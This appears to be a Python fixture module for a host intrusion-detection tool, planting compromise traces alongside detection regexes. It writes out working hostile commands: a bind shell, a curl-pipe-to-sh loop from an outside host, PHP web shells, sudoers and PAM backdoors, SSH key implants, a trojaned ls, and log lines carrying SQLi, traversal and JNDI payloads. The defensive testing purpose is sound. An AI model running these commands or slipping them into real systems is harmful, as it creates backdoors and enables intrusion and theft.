"""Traces in what runs, what is logged, who may do what, where packets go, and what lies about: no setting starts them.

They were written from reports of incidents without a look at the rules, and counted once before any rule was changed for them.
"""

from __future__ import annotations

from .trace import Trace, trace

_WEB = "/var/www/html"
_ANNA = "/home/anna"
_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB5nT0aWc7uXq1Lr9mYv3hJ8dKzPf2eGs6iQoRxTyNbC"
_LISTEN = "import os, socket; s = socket.create_server(('0.0.0.0', 8088)); c, _ = s.accept(); os.dup2(c.fileno(), 0); os.execv('/bin/sh', ['sh'])"
_WHEN = "t() { date -d \"$1\" '+%b %e %H:%M:%S'; }; "


def _logged(id_: str, file: str, lines: str, cited: str) -> Trace:
    """Lines of a log, of a few hours ago; `$T` is the time."""
    return trace(id_, "log", f"{_WHEN}T=$(t '5 hours ago'); cat >>/var/log/{file} <<X\n{lines}\nX", cited)


STATES: tuple[Trace, ...] = (
    trace("W01", "process", f"run python3 -c \"{_LISTEN}\"", r"8088|create_server"),
    trace("W02", "process", "cd /etc; run perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Listen => 5, LocalPort => 8000); while ($c = $s->accept) { print $c qq(HTTP/1.0 200 OK\\n\\n); close $c }'", r":8000\b|INET"),
    trace("W03", "process", "put /usr/share/misc/loop 'while :; do curl -fsS http://198.51.100.51/c | sh; sleep 600; done'; run bash -c 'while :; do curl -fsS http://198.51.100.51/c | sh; sleep 600; done'", r"198\.51\.100\.51"),
    trace("W04", "process", "mkdir /tmp/gone; cd /tmp/gone; run sleep 90001; rmdir /tmp/gone", r"90001|/tmp/gone"),
    trace("W05", "process", "runas '' /bin/sleep 90002", r"90002"),
    trace("W06", "process", "runas -bash /bin/sleep 90003", r"90003"),
    trace("W07", "process", "mkdir -p /run/user/1999; cp /bin/sleep /run/user/1999/dbus; run /run/user/1999/dbus 90004", r"run/user/1999|90004"),
    trace("W08", "process", "exec 9</etc/shadow; run sleep 90005", r"90005|/etc/shadow"),
    trace("W09", "process", "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/l.so; LD_PRELOAD=/tmp/l.so; export LD_PRELOAD; run /bin/sleep 90006; sleep 1; rm /tmp/l.so", r"90006|/tmp/l\.so"),
    trace("W10", "process", "run unshare -pf --mount-proc sleep 90007", r"90007|unshare"),
    trace("W11", "process", "cp /usr/bin/perl /usr/share/perl/pm; run /usr/share/perl/pm -e 'sleep 90008'", r"share/perl/pm\b|90008"),
    trace("W12", "process", "put /var/lib/misc/sshd_cfg 'Port 2200\nPermitRootLogin yes\nAuthorizedKeysFile /var/lib/misc/k\nHostKey /etc/ssh/ssh_host_ed25519_key'; mkdir -p /run/sshd; run /usr/sbin/sshd -D -f /var/lib/misc/sshd_cfg", r"sshd_cfg|:2200\b"),
    trace("W13", "process", "setsid setpriv --reuid=33 --regid=33 --clear-groups bash -c 'exec -a \"sh -i\" sleep 90009' >/dev/null 2>&1 </dev/null &", r"90009|sh -i"),
    trace("W14", "process", "cp /bin/sleep /dev/shm/pulse-shm-77; chmod 755 /dev/shm/pulse-shm-77; run /dev/shm/pulse-shm-77 90010", r"pulse-shm-77"),
    trace("W15", "process", "cp /bin/sleep '/usr/lib/systemd/systemd-logind '; setsid '/usr/lib/systemd/systemd-logind ' 90011 >/dev/null 2>&1 </dev/null &", r"90011|systemd-logind(?: |\\| )"),
    trace("W16", "account", "usermod -p '$1$ab$Xn7tZyYbqsN0b7l0m8J1c/' backup", r"backup"),
    trace("W17", "account", "sed -i '/^news:/s#:[^:]*:[^:]*$#:/dev/shm:/bin/bash#' /etc/passwd", r"news"),
    trace("W18", "account", "account anna2 1000 /home/anna /bin/bash", r"anna2"),
    trace("W19", "account", "echo 'ops2:x:27:anna' >>/etc/group", r"ops2"),
    trace("W20", "account", f"key {_ANNA}/.ssh/authorized_keys2 '{_KEY} x@y'", r"authorized_keys2"),
    trace("W21", "account", f"mkdir -p /etc/ssh/keys; put /etc/ssh/keys/root '{_KEY} a'; put /etc/ssh/sshd_config.d/30-keys.conf 'AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys'", r"30-keys|ssh/keys/root"),
    trace("W22", "account", "put /etc/sudoers.d/anna 'Defaults:anna !authenticate'; chmod 440 /etc/sudoers.d/anna", r"sudoers\.d/anna\b"),
    trace("W23", "account", "put /etc/sudoers.d/logs 'anna ALL=(root) NOPASSWD: /usr/bin/vim /var/log/*, /usr/bin/less /var/log/syslog'; chmod 440 /etc/sudoers.d/logs", r"sudoers\.d/logs"),
    trace("W24", "account", "sed -i '1i auth sufficient pam_wheel.so trust group=users' /etc/pam.d/su", r"pam\.d/su\b|pam_wheel"),
    trace("W25", "account", "put /etc/security/access.conf '+:root:198.51.100.52\n+:ALL:ALL'", r"access\.conf"),
    trace("W26", "account", "chage -M 99999 -E -1 games; usermod -s /bin/bash -d /var/games games; usermod -p '$6$abc$T7mZ6nF0bYk1sVQH7Uo9rjYxX2eP5wLqKd8cGiA3hBtNzMvEJfRuWlOpSy4D0C1' games", r"\bgames\b"),
    _logged("W27", "auth.log", "$T spare sshd[4011]: Failed password for root from 198.51.100.53 port 40001 ssh2\n" * 40 + "$T spare sshd[4011]: Accepted password for root from 198.51.100.53 port 40100 ssh2", r"198\.51\.100\.53"),
    _logged("W28", "auth.log", "$T spare useradd[4100]: new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1\n$T spare userdel[4200]: delete user 'sysd'", r"sysd"),
    _logged("W29", "auth.log", "$T spare sudo: www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash", r"www-data.*(?:COMMAND|bash)|COMMAND=/bin/bash"),
    _logged("W30", "kern.log", "$T spare kernel: [ 8123.1] nvidia_x: loading out-of-tree module taints kernel.\n$T spare kernel: [ 8123.2] nvidia_x: module verification failed: signature and/or required key missing - tainting kernel", r"nvidia_x"),
    _logged("W31", "kern.log", "$T spare kernel: [ 9001.0] sshd[5123]: segfault at 41414141 ip 0000000041414141 sp 00007ffd error 14\n" * 8, r"41414141|sshd, \d+ times"),
    _logged("W32", "syslog", "$T spare CRON[5300]: (root) CMD (/usr/lib/.cache/u >/dev/null 2>&1)", r"\.cache/u"),
    _logged("W33", "dpkg.log", "2026-11-29 03:11:02 remove auditd:amd64 1:3.0.9-1 <none>\n2026-11-29 03:11:09 remove rkhunter:all 1.4.6-11 <none>", r"auditd|rkhunter"),
    _logged("W34", "apt/history.log", "Start-Date: 2026-11-29  03:12:00\nCommandline: apt-get -y install masscan hydra proxychains4\nInstall: masscan:amd64 (1.3.2), hydra:amd64 (9.4-1)\nEnd-Date: 2026-11-29  03:12:30", r"masscan|hydra"),
    trace("W35", "log", "mkdir -p /var/log/apache2; D=$(date -d '4 hours ago' '+%d/%b/%Y:%H:%M:%S %z'); i=0; while [ $i -lt 60 ]; do echo \"198.51.100.54 - - [$D] \\\"POST /uploads/2024/th.php HTTP/1.1\\\" 200 512 \\\"-\\\" \\\"python-requests/2.28\\\"\"; i=$((i+1)); done >>/var/log/apache2/access.log", r"198\.51\.100\.54|th\.php"),
    trace("W36", "log", "mkdir -p /var/log/apache2; D=$(date -d '4 hours ago' '+%d/%b/%Y:%H:%M:%S %z'); echo \"198.51.100.55 - - [$D] \\\"GET /?id=1%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1\\\" 200 8123 \\\"-\\\" \\\"sqlmap/1.7\\\"\" >>/var/log/apache2/access.log", r"198\.51\.100\.55"),
    trace("W37", "log", "mkdir -p /var/log/apache2; D=$(date -d '4 hours ago' '+%d/%b/%Y:%H:%M:%S %z'); echo \"198.51.100.56 - - [$D] \\\"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\\\" 200 1712 \\\"-\\\" \\\"curl/7\\\"\" >>/var/log/apache2/access.log", r"198\.51\.100\.56"),
    trace("W38", "log", "mkdir -p /var/log/apache2; D=$(date -d '4 hours ago' '+%d/%b/%Y:%H:%M:%S %z'); echo \"198.51.100.57 - - [$D] \\\"GET / HTTP/1.1\\\" 200 100 \\\"-\\\" \\\"\\${jndi:ldap://198.51.100.57/a}\\\"\" >>/var/log/apache2/access.log", r"198\.51\.100\.57"),
    trace("W39", "network", "nft -f - <<'X'\ntable ip keep { chain in { type filter hook input priority -300; ip saddr 198.51.100.58 accept; }; }\nX", r"198\.51\.100\.58"),
    trace("W40", "network", "ip link add tap9 type dummy; ip link set tap9 up; ip route add 198.51.100.60/32 dev tap9; ip rule add to 198.51.100.60 lookup 77", r"tap9|198\.51\.100\.60|lookup 77"),
    trace("W41", "network", "put /etc/wireguard/wg9.conf '[Interface]\nPrivateKey = eHh4\nAddress = 10.66.0.2/32\n[Peer]\nEndpoint = 198.51.100.61:51820\nAllowedIPs = 0.0.0.0/0'", r"wg9|198\.51\.100\.61"),
    trace("W42", "network", "put /etc/sysctl.d/90-fwd.conf 'net.ipv4.ip_forward = 1\nnet.ipv4.conf.all.send_redirects = 1'", r"90-fwd"),
    trace("W43", "network", "echo 'ALL: 198.51.100.62' >>/etc/hosts.allow; echo 'sshd: ALL' >>/etc/hosts.allow", r"hosts\.allow"),
    trace("W44", "file", "cp /usr/bin/python3.11 /usr/bin/pyconfig; setcap cap_setuid+ep /usr/bin/pyconfig", r"pyconfig"),
    trace("W45", "file", "cp /bin/cat /usr/bin/expiry2; chgrp shadow /usr/bin/expiry2; chmod 2755 /usr/bin/expiry2", r"expiry2"),
    trace("W46", "file", "mknod /var/lib/misc/disk b 254 0", r"misc/disk"),
    trace("W47", "file", "mkdir -p /var/cache/man; ln /etc/shadow /var/cache/man/idx", r"man/idx"),
    trace("W48", "file", "chmod 666 /etc/passwd", r"/etc/passwd"),
    trace("W49", "file", f"mkdir -p {_WEB}; ln -s / {_WEB}/static2", r"static2"),
    trace("W50", "file", "mkdir -p /srv/data; for n in 1 2 3 4 5 6; do head -c 3000 /dev/urandom >/srv/data/report$n.docx.lockbit; done; put /srv/data/Restore-My-Files.txt 'All your files are encrypted. Contact http://abcdef.onion with your ID.'", r"lockbit|Restore-My-Files"),
    trace("W51", "file", "mkdir -p /var/tmp/.t; for n in linpeas.sh les.sh pspy64; do put /var/tmp/.t/$n '#!/bin/sh'; done", r"linpeas|pspy64|/var/tmp/\.t\b"),
    trace("W52", "file", f"mkdir -p {_WEB}/img; printf '\\377\\330\\377\\340JFIF<?php @eval($_POST[1]);?>' >{_WEB}/img/logo.jpg; printf 'AddType application/x-httpd-php .jpg\\n' >{_WEB}/img/.htaccess", r"img/(logo|\.htaccess)"),
    trace("W53", "file", f"put {_WEB}/wp-includes/class-wp-tokens.php '<?php $k=\"as\".\"sert\"; $k(strrev(@$_COOKIE[\"wpt\"]));'", r"class-wp-tokens"),
    trace("W54", "file", "cp /bin/ls /bin/ls.orig; printf '#!/bin/sh\\n/bin/ls.orig \"$@\" | grep -v kit\\n' >/bin/ls; chmod 755 /bin/ls", r"/bin/ls\b"),
    trace("W55", "file", "printf 'x' >>/usr/bin/find", r"/usr/bin/find"),
    trace("W56", "file", "mkdir -p '/usr/share/man/man1/.. '; prog '/usr/share/man/man1/.. /d'", r"man1/\.\.(?:\\x20| )"),
    trace("W57", "file", "mkdir -p /root/.ssh; printf 'Host bastion db1 db2\\n ControlMaster auto\\n ControlPath /tmp/.cm-%%h\\n ControlPersist yes\\n' >>/root/.ssh/config; python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.bind('/tmp/.cm-db1')\"", r"\.cm-|ControlPath"),
    trace("W58", "history", f"printf '%s\\n' 'scp -r /var/www/html x@198.51.100.63:' 'mysqldump --all-databases | gzip > /tmp/d.gz' 'rm -rf /var/log/apache2/*' >>{_ANNA}/.bash_history", r"198\.51\.100\.63|mysqldump|rm -rf /var/log"),
    trace("W59", "history", "printf '%s\\n' 'select load_file(\"/etc/passwd\");' 'select \"<?php system($_GET[0]);\" into outfile \"/var/www/html/q.php\";' >/root/.mysql_history; chmod 600 /root/.mysql_history", r"outfile|load_file"),
    trace("W60", "history", f"printf 'import pty\\npty.spawn(\"/bin/bash\")\\n' >{_ANNA}/.python_history", r"pty"),
)  # fmt: skip
